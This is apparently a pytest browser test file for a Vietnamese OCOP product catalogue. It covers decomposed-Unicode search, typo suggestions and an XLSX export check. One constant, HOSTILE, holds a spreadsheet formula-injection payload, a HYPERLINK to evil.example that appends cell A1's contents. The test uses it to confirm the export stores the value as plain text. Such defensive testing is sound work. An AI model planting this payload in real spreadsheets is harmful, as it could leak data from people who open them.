"""Browser tests of issue 15: a search typed in decomposed Unicode (NFD), a search with typos and
the "Có phải bạn tìm" suggestion, and an export holding a hostile value, downloaded through the
page and opened with openpyxl: the value is shown as text, never run as a formula."""

from __future__ import annotations

import io
import unicodedata

import openpyxl
import pytest

from ocop.catalogue.tests.factories import certified_product, current_commune_from
from ocop.conftest import log_in
from ocop.geo.models import AdminUnit, Era, Level
from ocop.programme.models import ProvincialPlan

pytestmark = pytest.mark.browser

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


@pytest.fixture
def honey(site):
    certified_product(current_commune_from("19"), "Mật ong hoa nhãn Thái Nguyên", entity_name="HTX Ong Đồng Hỷ")
    certified_product(current_commune_from("19"), "Chè búp Tân Cương", entity_name="HTX Chè Tân Cương")
    return site


def _search(page, text):
    old = page.get_by_test_id("catalogue-results").element_handle()
    page.get_by_test_id("catalogue-q").fill(text)
    page.get_by_test_id("catalogue-submit").click()
    page.wait_for_function("el => !el.isConnected", arg=old)
    return page.get_by_test_id("catalogue-item").locator("h2").all_inner_texts()


def test_a_search_typed_in_decomposed_unicode_finds_the_product(page, honey):
    page.goto(f"{honey}/san-pham-ocop/")
    nfd = unicodedata.normalize("NFD", "MẬT ONG")
    assert nfd != "MẬT ONG"
    assert _search(page, nfd) == ["Mật ong hoa nhãn Thái Nguyên"]


@pytest.mark.parametrize("typo", ["mat onh", "matong"])
def test_a_search_with_a_typo_suggests_and_finds_honey(page, honey, typo):
    page.goto(f"{honey}/san-pham-ocop/")
    assert _search(page, typo) == ["Mật ong hoa nhãn Thái Nguyên"]
    suggestion = page.get_by_test_id("did-you-mean")
    assert "Có phải bạn tìm" in suggestion.inner_text()
    assert page.get_by_test_id("suggestion").inner_text() == "mật ong"


def test_a_hostile_value_reaches_the_board_export_as_text(page, site):
    bac_kan = AdminUnit.objects.get(era=Era.LEGACY, level=Level.PROVINCE, code="06")
    ProvincialPlan.objects.create(
        unit=bac_kan,
        kind="de_an",
        title="Đề án OCOP",
        phase=HOSTILE,
        status="approved",
        drafting_since="2018-01-15",
        decision_number="=1+2",
        decision_date="2018-05-24",
        issuer="UBND tỉnh",
    )
    log_in(page, site, "tw.canbo")
    page.goto(f"{site}/programme/board/?date=12/12/2018")
    with page.expect_download() as info:
        page.get_by_test_id("export-xlsx").click()
    content = open(info.value.path(), "rb").read()
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = {c.value: c for row in ws.iter_rows() for c in row if c.value is not None}
    assert cells[HOSTILE].data_type == "s" and cells["=1+2"].data_type == "s"
    assert not any(c.data_type == "f" for c in cells.values())
